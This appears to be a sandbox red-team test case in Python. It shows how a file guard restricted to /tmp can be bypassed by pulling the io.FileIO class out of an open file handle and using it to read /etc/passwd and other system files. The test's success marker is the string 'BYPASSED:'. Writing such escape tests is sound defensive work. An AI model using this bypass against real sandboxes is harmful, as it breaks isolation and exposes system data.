# attack: the guarded open() returns a real file object; type(f.buffer.raw) is io.FileIO, which
#   opens any path (and any file descriptor) without the /tmp guard
# escaped-if: stdout has "BYPASSED:" (a file outside /tmp was read through FileIO)
with open("/tmp/nexus-redteam-scratch.txt", "w") as handle:
    raw_file = type(handle.buffer.raw)
for path in ("/proc/self/status", "/etc/passwd", "/etc/ld.so.cache"):
    try:
        data = raw_file(path).read(64)
    except OSError as exc:
        print("refused", path, exc)
        continue
    print("BYPASSED: read", path, "outside /tmp:", data[:20])
